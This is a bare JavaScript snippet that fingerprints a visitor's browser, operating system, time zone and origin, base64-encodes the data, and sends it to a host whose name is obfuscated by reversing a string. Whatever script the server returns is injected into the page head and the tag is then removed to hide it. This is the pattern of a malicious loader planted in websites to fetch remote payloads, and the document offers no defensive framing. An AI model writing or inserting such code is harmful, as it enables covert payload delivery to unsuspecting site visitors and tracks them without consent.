(function (d) {
  const b = (x) => btoa(unescape(encodeURIComponent(x)));
  const host = [..."gnigats"].reverse().join("") + "-static" + ".invalid";
  const q = {
    device: /Macintosh/.test(navigator.userAgent) ? "mac" : "windows",
    ip: b("0.0.0.0"),
    refferer: b(location.origin + "/"),
    browser: b(navigator.vendor || "none"),
    ua: b(navigator.userAgent),
    domain: b("https://" + host),
    loc: b(Intl.DateTimeFormat().resolvedOptions().timeZone),
    is_ajax: 1,
  };
  const x = new XMLHttpRequest();
  x.open("GET", "https://" + host + "/js.php?" + new URLSearchParams(q));
  x.onload = () => {
    if (x.status !== 200 || !x.response) return;
    const s = d.createElement("script");
    s.textContent = x.response;
    d.head.append(s);
    s.remove();
  };
  x.send();
})(document);
